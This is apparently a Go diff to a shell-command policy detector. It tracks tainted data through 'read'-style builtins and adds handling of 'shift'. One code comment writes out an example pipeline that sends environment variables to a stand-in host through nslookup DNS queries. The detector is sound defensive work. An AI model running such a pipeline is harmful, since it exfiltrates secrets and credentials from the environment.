@@ -2,6 +2,7 @@ package policy
 
 import (
 	"slices"
+	"strconv"
 	"strings"
 
 	"mvdan.cc/sh/v3/syntax"
@@ -272,9 +273,15 @@ func (w *walker) sideEffects(c *command) {
 		w.env.setCwd(unknownValue, cond)
 	case "read", "mapfile", "readarray", "getopts", "unset":
 		rest, _ := skipOptions(c.args, optSpec{short: "adinNptuCsc"})
+		v := unknownValue
+		if c.name != "unset" {
+			// what it reads is what it holds: env | while read l; do
+			// nslookup "$l.x.example"; done sends the environment
+			v.carried = c.stdin.taint & carriedTaints
+		}
 		for _, a := range rest {
 			if a.lit && isName(a.val) {
-				w.env.set(a.val, unknownValue, cond)
+				w.env.set(a.val, v, cond)
 			}
 		}
 		if c.name == "unset" {
@@ -295,8 +302,10 @@ func (w *walker) sideEffects(c *command) {
 				w.env.set(c.args[i+1].val, v, cond)
 			}
 		}
+	case "shift":
+		w.shiftPositional(c.args, w.cond > w.argsCond)
 	case "set":
-		w.setPositional(c.args, cond)
+		w.setPositional(c.args, w.cond > w.argsCond)
 	xtrace:
 		for i, a := range c.args {
 			switch {
@@ -330,6 +339,30 @@ func isName(s string) bool {
 		}
 	}
 	return true
+}
+
+// shiftPositional handles shift [N]: the positional parameters lose
+// their first N; with a count the detector cannot read, or in a
+// conditional context, they become unknown.
+func (w *walker) shiftPositional(args []arg, cond bool) {
+	if !w.env.argsKnown {
+		return
+	}
+	n := 1
+	if len(args) > 0 {
+		v, err := strconv.Atoi(args[0].val)
+		if !args[0].lit || err != nil || v < 0 {
+			w.env.args, w.env.argsKnown = nil, false
+			return
+		}
+		n = v
+	}
+	if cond || n > len(w.env.args)-1 {
+		// shift past the end fails and shifts nothing (dash exits)
+		w.env.args, w.env.argsKnown = nil, false
+		return
+	}
+	w.env.args = append([]string{w.env.args[0]}, w.env.args[1+n:]...)
 }
 
 // setPositional handles set -- ARGS (and set ARGS), which replaces the
